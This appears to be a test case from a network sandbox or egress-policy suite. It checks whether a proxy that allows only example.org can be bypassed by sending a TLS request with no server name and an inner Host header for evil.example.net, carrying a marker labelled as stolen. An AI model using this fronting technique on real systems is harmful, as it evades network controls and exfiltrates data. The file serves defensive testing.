# /// attack
# guarantee = "network"
# summary = "Names no site in TLS, and another one inside."
# reference = "RFC 6066, 3"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:443", "example.org:8443"] } }
# refusal = { default = "proxy exactly one server name" }
# ///

from kit import head, judge, shake, target, tunnel

sock = shake(tunnel("example.org"), None)
sock.sendall(head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close"))
judge(sock.recv(1 << 16))
